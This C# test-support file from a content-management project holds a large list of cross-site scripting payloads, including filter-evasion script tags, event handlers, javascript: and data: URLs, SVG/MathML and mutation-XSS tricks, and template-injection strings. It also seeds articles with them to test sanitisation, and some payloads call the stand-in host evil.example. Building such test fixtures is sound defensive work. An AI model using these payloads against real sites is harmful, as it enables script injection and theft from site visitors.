using System.Text.Json.Nodes;
using GutCms.TestSupport.Editorial;

namespace GutCms.TestSupport.Hostile;

/// <summary>
/// Markup by which text becomes script in careless programs, and articles full of it. Each payload that runs sets <c>window.pwned</c> or asks for
/// <c>https://evil.example/</c>.
/// </summary>
/// <remarks>After the OWASP cheat sheet on filter evasion, PortSwigger's cheat sheet, the tests of DOMPurify, and M. Heiderich et al., mXSS attacks, CCS 2013.</remarks>
public static class Payloads
{
    private const string Run = "window.pwned=1";

    /// <summary>All of them.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        // Plain script and where it hides.
        $"<script>{Run}</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", $"<scr<script>ipt>{Run}</scr</script>ipt>", $"<script\n>{Run}</script >",
        $"<script/x>{Run}</script>", $"<<script>{Run}//<</script>", $"<script>/*<!--*/{Run}/*-->*/</script>", $"<script type=module>{Run}</script>",
        $"<!--><script>{Run}</script>-->", $"<!--<script>-->{Run}<!--</script>-->", $"<![CDATA[<script>{Run}</script>]]>", $"<?xml version=\"1.0\"?><script>{Run}</script>",
        $"</p><script>{Run}</script><p>", $"\"><script>{Run}</script>", $"'><script>{Run}</script>", $"</title><script>{Run}</script>", $"</textarea><script>{Run}</script>",
        $"</style><script>{Run}</script>", $"</script><script>{Run}</script>", $"--><script>{Run}</script>", $"]]><script>{Run}</script>", $"%3Cscript%3E{Run}%3C/script%3E",
        $"&lt;script&gt;{Run}&lt;/script&gt;", $"&#60;script&#62;{Run}&#60;/script&#62;", $"\\u003cscript\\u003e{Run}\\u003c/script\\u003e",

        // Handlers of events.
        $"<img src=x onerror={Run}>", $"<img src=x onerror=\"{Run}\"//>", $"<img/src/onerror={Run}>", $"<img src=x:x onerror\n=\n{Run}>", $"<IMG SRC=x OnErRoR={Run}>",
        $"<img src=`x`onerror={Run}>", "<img src=x onerror=&#119;indow.pwned=1>", $"<img \"\"\"><img src=x onerror={Run}>\">", $"<svg onload={Run}>", $"<svg/onload={Run}>",
        $"<body onload={Run}>", $"<body onpageshow={Run}>", $"<input autofocus onfocus={Run}>", $"<select autofocus onfocus={Run}>", $"<textarea autofocus onfocus={Run}>",
        $"<video><source onerror={Run}>", $"<video src=x onerror={Run}></video>", $"<audio src=x onerror={Run}>", $"<details open ontoggle={Run}>", $"<marquee onstart={Run}>x</marquee>",
        $"<p onmouseover={Run}>x</p>", $"<p tabindex=0 autofocus onfocus={Run}>x</p>", $"<a href=# onclick={Run}>x</a>", $"<b style=animation-name:x onanimationstart={Run}>x</b>",
        $"<p onpointerenter={Run} contenteditable autofocus>x</p>", $"<iframe onload={Run}></iframe>", $"<object data=x onerror={Run}></object>", $"<x onclick={Run}>x</x>",

        // Addresses.
        $"<a href=javascript:{Run}>x</a>", $"<a href=\"JaVaScRiPt:{Run}\">x</a>", $"<a href=\" javascript:{Run}\">x</a>", $"<a href=\"java\tscript:{Run}\">x</a>",
        $"<a href=\"java\nscript:{Run}\">x</a>", $"<a href=\"java&#9;script:{Run}\">x</a>", $"<a href=\"java&#x0A;script:{Run}\">x</a>", $"<a href=\"&#106;avascript:{Run}\">x</a>",
        $"<a href=\"&#x6a&#x61vascript:{Run}\">x</a>", $"<a href=\"javascript&colon;{Run}\">x</a>", $"<a href=\"\u0001javascript:{Run}\">x</a>", "<a href=\"vbscript:msgbox(1)\">x</a>",
        $"<a href=\"data:text/html,<script>{Run}</script>\">x</a>", "<a href=\"data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==\">x</a>", $"<a href=\"javascript://%0a{Run}\">x</a>",
        $"<a href=\"https:javascript:{Run}\">x</a>", "<a href=\"//evil.example/\" ping=https://evil.example/>x</a>", "<a href=x target=_blank rel=opener>x</a>", $"<area href=javascript:{Run}>",
        $"<form action=javascript:{Run}><button>x</button></form>", $"<button formaction=javascript:{Run}>x</button>", $"<input type=image formaction=javascript:{Run}>",
        $"<iframe src=javascript:{Run}></iframe>", $"<iframe srcdoc=\"<script>{Run}</script>\"></iframe>", $"<embed src=javascript:{Run}>", $"<object data=javascript:{Run}></object>",
        "<base href=https://evil.example/>", "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=import href=https://evil.example/>", "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
        $"<meta http-equiv=refresh content=\"0;url=javascript:{Run}\">", "<img src=https://evil.example/x.png>", "<img srcset=https://evil.example/x.png>", "<picture><source srcset=https://evil.example/x.png></picture>",

        // Styles.
        "<style>@import 'https://evil.example/x.css';</style>", "<p style=\"background:url(https://evil.example/x.png)\">x</p>", "<p style=\"behavior:url(x.htc)\">x</p>",
        $"<p style=\"width:expression({Run})\">x</p>", $"<style><img src=\"</style><img src=x onerror={Run}>\">", "<div style=\"position:fixed;inset:0\">x</div>",

        // SVG and MathML.
        $"<svg><script>{Run}</script></svg>", $"<svg><a xlink:href=javascript:{Run}><text y=9>x</text></a></svg>", $"<svg><animate onbegin={Run} attributeName=x dur=1s>",
        $"<svg><set attributeName=href to=javascript:{Run}></svg>", $"<svg><use href=\"data:image/svg+xml,<svg onload={Run}>\"/></svg>", $"<svg><foreignObject><body onload={Run}></foreignObject></svg>",
        $"<svg><image href=https://evil.example/x.png onerror={Run}/></svg>", $"<math href=javascript:{Run}>x</math>", $"<math><mi xlink:href=javascript:{Run}>x</mi></math>",
        $"<math><annotation-xml encoding=text/html><script>{Run}</script></annotation-xml></math>",

        // What is harmless until it is written and read again.
        $"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={Run}&gt;\">", $"<svg></p><style><a id=\"</style><img src=1 onerror={Run}>\">",
        $"<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title=\"</style><img src onerror={Run}>\"></style></mtext></svg></mglyph></option></mtext></math>",
        $"<form><math><mtext></form><form><mglyph><style></math><img src onerror={Run}>", $"<noscript><p title=\"</noscript><img src=x onerror={Run}>\">", $"<noembed><img title=\"</noembed><img src=x onerror={Run}>\">",
        $"<xmp><p title=\"</xmp><img src=x onerror={Run}>\">", $"<plaintext><img src=x onerror={Run}>", $"<template><script>{Run}</script></template>", $"<listing>&lt;img src=x onerror={Run}&gt;</listing>",
        $"<p title=\"&lt;/p&gt;&lt;img src=x onerror={Run}&gt;\">x</p>", $"<a title='\"><img src=x onerror={Run}>'>x</a>", $"<table><td><svg><desc><td><img src=x onerror={Run}>", $"<select><template><img src=x onerror={Run}></template></select>",
        $"<b><p><b><p><i></b><img src=x onerror={Run}></p></i>", $"<a href=\"x\"><table><a href=javascript:{Run}>x", $"<ruby><rt><svg><title><style><img src=x onerror={Run}></style>", "<div id=x><img name=getElementById><form id=cookie>",
        $"<p lang='\"><img src=x onerror={Run}>'>x</p>", $"<p dir='rtl\" onmouseover=\"{Run}'>x</p>", $"<a href='x\"onmouseover=\"{Run}'>x</a>", $"<a href=\"https://example.org/\u2028<img src=x onerror={Run}>\">x</a>",

        // Templates and other languages.
        "{{constructor.constructor('window.pwned=1')()}}", "${window.pwned=1}", "@(1+1)@Html.Raw(\"<script>window.pwned=1</script>\")", "<%= 7*7 %>", "{% raw %}<script>window.pwned=1</script>", "\u202E<script>window.pwned=1</script>",
        "<\u0131mg src=x onerror=window.pwned=1>", "\uFF1Cscript\uFF1Ewindow.pwned=1\uFF1C/script\uFF1E", "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    ];

    /// <summary>Slug of the article that holds every payload in every field of its body.</summary>
    public const string Everything = "hostile-everything";

    /// <summary>Slug of the article whose title, subtitle and excerpt are a payload.</summary>
    public static string SlugOf(int payload) => $"hostile-{payload}";

    /// <summary>A recipe with an article for each payload and one for all of them.</summary>
    public static JsonObject Recipe()
    {
        var items = All.Select((payload, index) => (JsonNode)Live(Heading(SampleArticle.Create(SlugOf(index), payload), payload))).Append(Live(Full())).ToArray();
        return new() { ["name"] = "hostile", ["steps"] = new JsonArray(new JsonObject { ["name"] = "Content", ["Data"] = new JsonArray(items) }) };
    }

    /// <summary>A new article, as it is sent, with every payload in every field of its body.</summary>
    public static JsonObject Full(string slug = Everything)
    {
        var article = SampleArticle.Create(slug);
        var blocks = new JsonArray();
        var references = new JsonArray();
        for (var index = 0; index < All.Count; index++)
        {
            var payload = All[index];
            blocks.Add(Block(index * 3, "Section", payload, "HtmlBodyPart", new JsonObject { ["Html"] = $"<p>Before.</p>{payload}<p>Behind.</p>" }));
            blocks.Add(Block((index * 3) + 1, "Faq", payload, "Entries", new JsonObject
            {
                ["ContentItems"] = new JsonArray(Block((index * 3) + 2, "FaqEntry", payload, "HtmlBodyPart", new JsonObject { ["Html"] = payload })),
            }));
            references.Add(Block(10_000 + index, "Reference", payload, "Reference", new JsonObject
            {
                ["Doi"] = new JsonObject { ["Text"] = DoiOf(payload) },
                ["Pmid"] = new JsonObject { ["Text"] = "12345" },
                ["Url"] = new JsonObject { ["Url"] = "https://example.org/", ["Text"] = payload },
            }));
        }

        article["Body"] = new JsonObject { ["ContentItems"] = blocks };
        article["References"] = new JsonObject { ["ContentItems"] = references };
        return article;
    }

    // As much of it as a DOI may hold.
    private static string DoiOf(string payload) => "10.5555/" + new string([.. payload.Where(character => !char.IsWhiteSpace(character) && !char.IsControl(character) && char.IsAscii(character)).Take(200)]) + "x";

    private static JsonObject Heading(JsonObject article, string payload)
    {
        article["DisplayText"] = payload;
        article["TitlePart"]!["Title"] = payload;
        article["Article"]!["Subtitle"] = new JsonObject { ["Text"] = payload };
        article["Article"]!["Excerpt"] = new JsonObject { ["Text"] = payload.Length > 300 ? payload[..300] : payload };
        article["Body"]!["ContentItems"]![0]!["TitlePart"]!["Title"] = payload;
        return article;
    }

    private static JsonObject Live(JsonObject item)
    {
        (item["ContentItemId"], item["ContentItemVersionId"], item["Latest"], item["Published"]) = (NewId(), NewId(), true, true);
        return item;
    }

    private static JsonObject Block(int number, string type, string title, string part, JsonObject value) => new()
    {
        ["ContentItemId"] = $"4b{number:D24}",
        ["ContentType"] = type,
        ["DisplayText"] = title,
        ["TitlePart"] = new JsonObject { ["Title"] = title },
        [part] = value,
    };

    private static string NewId()
    {
        const string alphabet = "0123456789abcdefghjkmnpqrstvwxyz";
        return "4" + string.Concat(System.Security.Cryptography.RandomNumberGenerator.GetItems<char>(alphabet, 25));
    }
}
